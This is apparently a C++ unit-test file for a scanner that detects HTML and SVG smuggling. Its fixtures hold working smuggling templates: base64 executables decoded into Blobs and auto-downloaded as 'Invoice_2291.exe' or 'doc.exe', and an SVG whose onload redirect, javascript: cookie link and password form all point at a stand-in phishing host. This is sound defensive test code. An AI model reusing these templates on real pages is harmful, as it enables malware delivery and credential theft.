// HTML/SVG smuggling detector: smuggling pages (atob + Blob + anchor download, Uint8Array literal +
// msSaveOrOpenBlob, SVG script), data: URIs with executables, SVG active content; hard negatives: a
// Blob from a textarea, a Blob from fetch(), a PNG data: URI, a plain SVG icon.
#include <gtest/gtest.h>

#include "collector.h"

namespace airlock::scan {
namespace {

using content_test::Collector;
using content_test::MakeObject;
using content_test::RunDetector;

std::string ByteList(std::string_view bytes) {
  std::string s;
  for (unsigned char c : bytes) s += (s.empty() ? "" : ",") + std::to_string(c);
  return s;
}

class SmugglingTest : public ::testing::Test {
 protected:
  Collector Scan(std::string name, std::string_view data, std::string mime = "") {
    return RunDetector(*detector_, MakeObject(std::move(name), data, std::move(mime)));
  }
  std::unique_ptr<Analyzer> detector_ = MakeSmugglingDetector();
  std::string pe_ = content_test::FakePe(600);
};

TEST_F(SmugglingTest, AtobBlobAnchorClickIsSmuggling) {
  std::string html = "<!DOCTYPE html><html><body><p>Loading your document...</p><script>\n"
                     "var b64 = '" + content_test::Base64(pe_) + "';\n"
                     "var bin = atob(b64); var bytes = new Uint8Array(bin.length);\n"
                     "for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);\n"
                     "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
                     "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
                     "a.download = 'Invoice_2291.exe'; document.body.appendChild(a); a.click();\n"
                     "</script></body></html>";
  Collector c = Scan("invoice.html", html);
  ASSERT_TRUE(c.Has("html.smuggling")) << c.Ids();
  EXPECT_EQ(c.Find("html.smuggling")->severity, 8);
  EXPECT_TRUE(c.HasTechnique("html.smuggling", "T1027.006"));
  EXPECT_TRUE(c.Has("html.embedded_payload"));
  const std::string* child = c.Child("smuggled_1.exe");
  ASSERT_NE(child, nullptr) << c.children.size();
  EXPECT_EQ(*child, pe_);
}

TEST_F(SmugglingTest, ByteArrayAndMsSaveOrOpenBlobIsSmuggling) {
  std::string zip = "PK\x03\x04" + std::string(100, 'z');
  std::string html = "<html><script>const data = new Uint8Array([" + ByteList(zip) + "]);\n"
                     "const f = new File([data], 'scan.zip');\n"
                     "if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(f, 'scan.zip');\n"
                     "</script></html>";
  Collector c = Scan("page.htm", html);
  ASSERT_TRUE(c.Has("html.smuggling")) << c.Ids();
  ASSERT_NE(c.Child("smuggled_1.zip"), nullptr);
  EXPECT_EQ(*c.Child("smuggled_1.zip"), zip);
}

TEST_F(SmugglingTest, BlobFromTextareaIsNotSmuggling) {
  std::string html = R"x(<html><body><textarea id="notes"></textarea><button id="save">Save</button>
<script>
document.getElementById('save').onclick = function () {
  var blob = new Blob([document.getElementById('notes').value], {type: 'text/plain'});
  var a = document.createElement('a');
  a.href = URL.createObjectURL(blob);
  a.download = 'notes.txt';
  a.click();
  URL.revokeObjectURL(a.href);
};
</script></body></html>)x";
  Collector c = Scan("notes.html", html);
  EXPECT_TRUE(c.findings.empty()) << c.Ids();
  EXPECT_TRUE(c.children.empty());
}

TEST_F(SmugglingTest, BlobFromFetchIsNotSmuggling) {
  std::string html = R"x(<html><body><a id="dl" href="#">Export CSV</a><script>
document.getElementById('dl').addEventListener('click', async (e) => {
  e.preventDefault();
  const r = await fetch('/reports/q3.csv', {credentials: 'same-origin'});
  const blob = new Blob([await r.arrayBuffer()], {type: 'text/csv'});
  const a = document.createElement('a');
  a.href = URL.createObjectURL(blob);
  a.setAttribute('download', 'q3.csv');
  a.click();
});
</script></body></html>)x";
  Collector c = Scan("export.html", html);
  EXPECT_TRUE(c.findings.empty()) << c.Ids();
}

TEST_F(SmugglingTest, DataUriExecutableIsDecoded) {
  std::string html = "<html><body><a href=\"data:application/octet-stream;base64," + content_test::Base64(pe_) +
                     "\" download=\"setup.exe\">Download</a></body></html>";
  Collector c = Scan("d.html", html);
  ASSERT_TRUE(c.Has("html.data_uri_payload")) << c.Ids();
  EXPECT_EQ(c.Find("html.data_uri_payload")->severity, 7);
  ASSERT_EQ(c.children.size(), 1u);
  EXPECT_EQ(c.children[0].second, pe_);
  EXPECT_FALSE(c.Has("html.smuggling"));
}

TEST_F(SmugglingTest, DataUriImageIsClean) {
  std::string png = "\x89PNG\r\n\x1a\n" + content_test::RandomBytes(400);
  std::string html = "<html><body><img alt=\"logo\" src=\"data:image/png;base64," + content_test::Base64(png) +
                     "\"><p>Hello</p><style>.x{background:url(data:image/gif;base64,R0lGODlhAQABAAAAACw=)}</style>"
                     "</body></html>";
  Collector c = Scan("logo.html", html);
  EXPECT_TRUE(c.findings.empty()) << c.Ids();
  EXPECT_TRUE(c.children.empty());
  // Fonts are commonly embedded as application/octet-stream.
  std::string woff = "wOFF" + content_test::RandomBytes(300);
  std::string css = "<html><style>@font-face{font-family:x;src:url(data:application/octet-stream;base64," +
                    content_test::Base64(woff) + ") format('woff')}</style></html>";
  EXPECT_TRUE(Scan("font.html", css).findings.empty());
}

TEST_F(SmugglingTest, ClamavHtmlDataUri) {
  auto data = content_test::ReadFile("/usr/share/clamav-testfiles/clam.exe.html");
  if (!data) GTEST_SKIP() << "clamav-testfiles not installed (apt-get install clamav-testfiles)";
  Collector c = Scan("clam.exe.html", *data);
  ASSERT_TRUE(c.Has("html.data_uri_payload")) << c.Ids();
  ASSERT_EQ(c.children.size(), 1u);
  EXPECT_TRUE(c.children[0].second.starts_with("MZ"));
}

TEST_F(SmugglingTest, SvgSmuggling) {
  std::string svg = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
                    "<script type=\"application/ecmascript\"><![CDATA[\n"
                    "var p = atob('" + content_test::Base64(pe_) + "');\n"
                    "var u = new Uint8Array(p.length); for (var i=0;i<p.length;i++) u[i]=p.charCodeAt(i);\n"
                    "var b = new Blob([u]); var a = document.createElementNS('http://www.w3.org/1999/xhtml','a');\n"
                    "a.href = window.URL.createObjectURL(b); a.download = 'doc.exe'; a.click();\n"
                    "]]></script></svg>";
  Collector c = Scan("image.svg", svg, "image/svg+xml");
  ASSERT_TRUE(c.Has("svg.smuggling")) << c.Ids();
  EXPECT_TRUE(c.HasTechnique("svg.smuggling", "T1027.017"));
  EXPECT_TRUE(c.Has("svg.script"));
  EXPECT_TRUE(c.Has("svg.embedded_payload"));
  EXPECT_FALSE(c.Has("html.smuggling"));
  ASSERT_NE(c.Child("smuggled_1.exe"), nullptr);
}

TEST_F(SmugglingTest, SvgActiveContent) {
  std::string svg = R"x(<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="location='https://phish.example/'+document.domain">
<a xlink:href="javascript:alert(document.cookie)"><rect width="10" height="10"/></a>
<foreignObject width="400" height="300"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://phish.example/p"><input name="password" type="password"/></form></body></foreignObject>
</svg>)x";
  Collector c = Scan("logo.svg", svg);
  EXPECT_TRUE(c.HasTechnique("svg.event_handler", "T1027.017")) << c.Ids();
  EXPECT_TRUE(c.Has("svg.javascript_href"));
  EXPECT_TRUE(c.Has("svg.foreign_object"));
  EXPECT_FALSE(c.Has("svg.script"));
}

// Hard negative: a hover effect in script and handlers only restyles the drawing (severity 2, the
// reason given); the same image whose handler sends the user elsewhere stays suspicious (5).
std::string HoverSvg(const std::string& handler) {
  return R"x(<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40">
<script type="text/javascript"><![CDATA[
  // highlight the button under the pointer
  function hover(evt, on) { evt.target.setAttribute("fill", on ? "#f90" : "#369"); }
]]></script>
<rect x="5" y="5" width="90" height="30" fill="#369" onmouseover="hover(evt, true)" onmouseout=")x" + handler +
         R"x("/>
</svg>)x";
}

TEST_F(SmugglingTest, SvgHoverScriptIsReportedLow) {
  Collector c = Scan("button.svg", HoverSvg("hover(evt, false)"), "image/svg+xml");
  ASSERT_TRUE(c.Has("svg.script")) << c.Ids();
  EXPECT_EQ(c.Find("svg.script")->severity, 2);
  EXPECT_NE(c.Find("svg.script")->explanation.find("only changes the drawing"), std::string::npos);
  ASSERT_TRUE(c.Has("svg.event_handler"));
  EXPECT_EQ(c.Find("svg.event_handler")->severity, 2);
}

TEST_F(SmugglingTest, SvgHandlerThatNavigatesStaysSuspicious) {
  Collector c = Scan("button.svg", HoverSvg("window.location='https://login.example.net/'"), "image/svg+xml");
  ASSERT_TRUE(c.Has("svg.script")) << c.Ids();
  EXPECT_EQ(c.Find("svg.script")->severity, 5);
  EXPECT_NE(c.Find("svg.script")->title.find("location"), std::string::npos) << c.Find("svg.script")->title;
  EXPECT_EQ(c.Find("svg.event_handler")->severity, 5);
}

TEST_F(SmugglingTest, PlainSvgIconIsClean) {
  std::string svg = R"x(<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24">
  <title>Home</title>
  <path d="M10 20v-6h4v6h5v-8h3L12 3 2 12h3v8z" fill="#333" stroke-width="0"/>
  <a href="https://example.org/"><circle cx="12" cy="12" r="2"/></a>
</svg>)x";
  Collector c = Scan("home.svg", svg, "image/svg+xml");
  EXPECT_TRUE(c.findings.empty()) << c.Ids();
}

TEST_F(SmugglingTest, AcceptsMarkupOnly) {
  EXPECT_TRUE(detector_->Accepts(MakeObject("x", "<!DOCTYPE html><html>")));
  EXPECT_TRUE(detector_->Accepts(MakeObject("x", "  <svg xmlns='http://www.w3.org/2000/svg'/>")));
  EXPECT_TRUE(detector_->Accepts(MakeObject("a.svg", "")));
  EXPECT_FALSE(detector_->Accepts(MakeObject("a.txt", "plain text")));
}

TEST_F(SmugglingTest, MalformedMarkupIsBounded) {
  std::vector<std::string> inputs = {
      "<html><script>", "<html><script>new Blob([", "<html>data:", "<html>data:;base64,",
      "<html><script>[" + std::string(200000, '1') + "]</script>",
      "<html><script>[" + std::string(100000, '[') + "</script>",
      "<html><script>String.fromCharCode(" + std::string(100000, ',') + ")</script>",
      "<svg><foreignObject><foreignObject><foreignObject>",
      "<html>" + std::string(100000, '<') + "data:application/zip;base64,!!!!",
  };
  // Inputs that made earlier versions quadratic: unclosed regions repeated many times.
  std::string svg = "<svg>";
  for (int i = 0; i < 50000; ++i) svg += "<foreignObject><p>";
  inputs.push_back(svg);
  std::string datas = "<html>";
  for (int i = 0; i < 50000; ++i) datas += "data:x/y;base64 ";
  inputs.push_back(datas + ",");
  for (const auto& in : inputs) {
    EXPECT_NO_THROW(Scan("x.html", in));
    EXPECT_NO_THROW(Scan("x.svg", in, "image/svg+xml"));
  }
  // A byte array of 200k values yields one child, capped by the budget.
  std::string many = "<html><script>var a=[" + ByteList(content_test::RandomBytes(200000)) + "];</script></html>";
  Collector c = RunDetector(*detector_, MakeObject("x.html", many), 1000);
  EXPECT_TRUE(c.children.empty());
}

TEST_F(SmugglingTest, MailCorpusHasNoSmuggling) {
  const std::string dir = AIRLOCK_SOURCE_DIR "/../shared/reference/mime-corpus/resources/eml";
  std::error_code ec;
  if (!std::filesystem::is_directory(dir, ec)) GTEST_SKIP() << "reference corpus not present: " << dir;
  size_t files = 0;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(dir)) {
    if (!entry.is_regular_file()) continue;
    auto data = content_test::ReadFile(entry.path());
    if (!data) continue;
    ++files;
    // Mails are scanned as if they were HTML, the worst case for false positives.
    Collector c = Scan("mail.html", *data, "text/html");
    EXPECT_FALSE(c.Has("html.smuggling")) << entry.path();
    EXPECT_LT(c.MaxSeverity(), 7) << entry.path() << ": " << c.Ids();
  }
  EXPECT_GT(files, 300u);
}

}  // namespace
}  // namespace airlock::scan
